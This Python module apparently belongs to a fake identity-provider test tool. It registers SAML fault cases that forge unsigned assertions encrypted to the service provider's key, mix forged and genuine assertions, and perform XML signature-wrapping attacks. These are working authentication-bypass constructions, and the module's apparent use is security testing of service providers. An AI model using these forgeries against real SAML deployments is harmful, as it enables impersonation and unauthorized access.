"""Attacks that count on encryption passing for a signature: anybody can encrypt to the SP's public key."""

from __future__ import annotations

from fake_idp.faults.edit import ASSERTION
from fake_idp.faults.encryption import encryption_options, plain_assertion
from fake_idp.faults.forge import forged_assertion
from fake_idp.faults.registry import on, register
from fake_idp.faults.signing import own_signature
from fake_idp.saml.claims import ResponseClaims
from fake_idp.saml.nodes import Element
from fake_idp.saml.pipeline import FaultContext, SigningOptions
from fake_idp.saml.signature import remove_signature

FORGERY = "Errata E26, E93; SAML Core 6.2, lines 3117-3124"


@on("signed", "enc-unsigned-forgery", source=FORGERY, encrypts=True)
def encrypted_unsigned_forgery(response: Element, context: FaultContext) -> None:
    """A forged assertion, unsigned, encrypted for the SP, in an unsigned Response: anybody can make it."""
    remove_signature(response)
    genuine = plain_assertion(response, context)
    forged = context.encrypt(
        forged_assertion(genuine, context), certificate=encryption_options(context).certificate
    )
    response.replace(response.child("EncryptedAssertion") or response.one(ASSERTION), forged)


def signed_inside(_claims: ResponseClaims, signing: SigningOptions) -> str | None:
    """Applies where the assertion is signed: what is genuine stays genuine next to the forged part."""
    return None if signing.assertion_signed else "The assertion has no signature of its own."


def _mixed(name: str, *, forged_plain: bool, first: bool) -> None:
    def apply(response: Element, context: FaultContext) -> None:
        remove_signature(response)
        present = response.child("EncryptedAssertion") or response.one(ASSERTION)
        plain = plain_assertion(response, context)
        forged = forged_assertion(plain, context)
        certificate = encryption_options(context).certificate
        if forged_plain:
            genuine = context.encrypt(plain.copy(), certificate=certificate)
        else:
            genuine, forged = plain.copy(), context.encrypt(forged, certificate=certificate)
        response.replace(present, genuine)
        (response.insert_before if first else response.insert_after)(genuine, forged)

    what, other = ("plain", "encrypted") if forged_plain else ("encrypted", "plain")
    register(
        name,
        f"A forged, unsigned, {what} assertion stands {'before' if first else 'behind'} the signed, {other} one.",
        "signed",
        apply,
        "enc-mixed-plain-encrypted",
        "wrap-encrypted",
        source=FORGERY,
        applies=signed_inside,
        encrypts=True,
    )


_mixed("encrypted-forgery-beside-plain", forged_plain=False, first=False)
_mixed("encrypted-forgery-before-plain", forged_plain=False, first=True)
_mixed("plain-forgery-beside-encrypted", forged_plain=True, first=False)
_mixed("plain-forgery-before-encrypted", forged_plain=True, first=True)


@on("signed", "wrap-encrypted", source=FORGERY, applies=signed_inside, encrypts=True)
def wrap_encrypted_forgery(response: Element, context: FaultContext) -> None:
    """The signed assertion is in Extensions; an encrypted, forged one has its ID and its Signature."""
    remove_signature(response)
    present = response.child("EncryptedAssertion") or response.one(ASSERTION)
    genuine = plain_assertion(response, context).copy()
    signature = own_signature(genuine)
    forged = forged_assertion(genuine, context)
    forged.set("ID", genuine.get("ID"))
    if signature:
        forged.insert_after(forged.one("saml2:Issuer"), signature.copy())
    certificate = encryption_options(context).certificate
    response.replace(present, context.encrypt(forged, certificate=certificate))
    extensions = Element("saml2p:Extensions", {}, [genuine])
    response.insert_before(response.one("saml2p:Status"), extensions)


@on("signed", "wrap-encrypted", source=FORGERY, applies=signed_inside, encrypts=True)
def wrap_encrypted_original(response: Element, context: FaultContext) -> None:
    """The signed assertion is encrypted; a plain, forged one before it has its ID."""
    remove_signature(response)
    present = response.child("EncryptedAssertion") or response.one(ASSERTION)
    genuine = plain_assertion(response, context).copy()
    forged = forged_assertion(genuine, context)
    forged.set("ID", genuine.get("ID"))
    certificate = encryption_options(context).certificate
    sealed = context.encrypt(genuine, certificate=certificate)
    response.replace(present, sealed)
    response.insert_before(sealed, forged)
